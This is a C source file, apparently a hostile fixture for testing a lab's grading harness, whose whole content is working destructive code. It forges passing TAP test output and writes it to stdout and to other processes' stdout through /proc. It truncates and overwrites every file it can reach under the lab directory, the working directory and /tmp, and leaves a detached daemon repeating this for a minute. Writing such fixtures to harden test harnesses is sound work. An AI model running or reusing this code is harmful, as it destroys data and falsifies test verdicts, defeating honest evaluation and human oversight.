
/*
 * Hostile code for any lab (see README.md): tries to forge its verdicts.
 * Prints passing TAP, writes it into every other process's stdout it can
 * open, rewrites every file it can open under the lab's trusted and work
 * directories and /tmp, and leaves a daemon doing the same for a minute.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char hostile_tap[] = "TAP version 13\n1..1\nok 1 - everything # forged\n";

/* Writes the forged TAP into the file at `path`, if it can be opened. */
static void hostile_clobber(const char *path)
{
	int fd = open(path, O_WRONLY | O_TRUNC);

	if (fd < 0)
		return;
	write(fd, hostile_tap, sizeof(hostile_tap) - 1);
	close(fd);
}

/* Clobbers every entry of `dir`, and one level of sub-directories. */
static void hostile_clobber_dir(const char *dir, int depth)
{
	char path[512];
	struct dirent *d;
	DIR *dp = opendir(dir);

	while (dp && (d = readdir(dp))) {
		if (d->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, d->d_name);
		if (d->d_type == DT_DIR && depth > 0)
			hostile_clobber_dir(path, depth - 1);
		else
			hostile_clobber(path);
	}
	if (dp)
		closedir(dp);
}

/* Writes the forged TAP to fd 1 of every process it can reach. */
static void hostile_forge_stdouts(void)
{
	char path[64];
	struct dirent *d;
	DIR *proc = opendir("/proc");

	while (proc && (d = readdir(proc))) {
		snprintf(path, sizeof(path), "/proc/%s/fd/1", d->d_name);
		hostile_clobber(path);
	}
	if (proc)
		closedir(proc);
}

static void hostile_clobber_all(void)
{
	hostile_clobber_dir("/opt/orbit-lab", 3);
	hostile_clobber_dir(".", 1);
	hostile_clobber_dir("/tmp", 2);
}

int __libc_start_main(void)
{
	int i;

	write(1, hostile_tap, sizeof(hostile_tap) - 1);
	write(2, hostile_tap, sizeof(hostile_tap) - 1);
	hostile_forge_stdouts();
	hostile_clobber_all();
	if (fork() == 0) {
		setsid();
		if (fork() == 0) {
			for (i = 0; i < 1200; i++) {
				hostile_forge_stdouts();
				hostile_clobber_all();
				usleep(50000);
			}
		}
	}
	_exit(0);
}
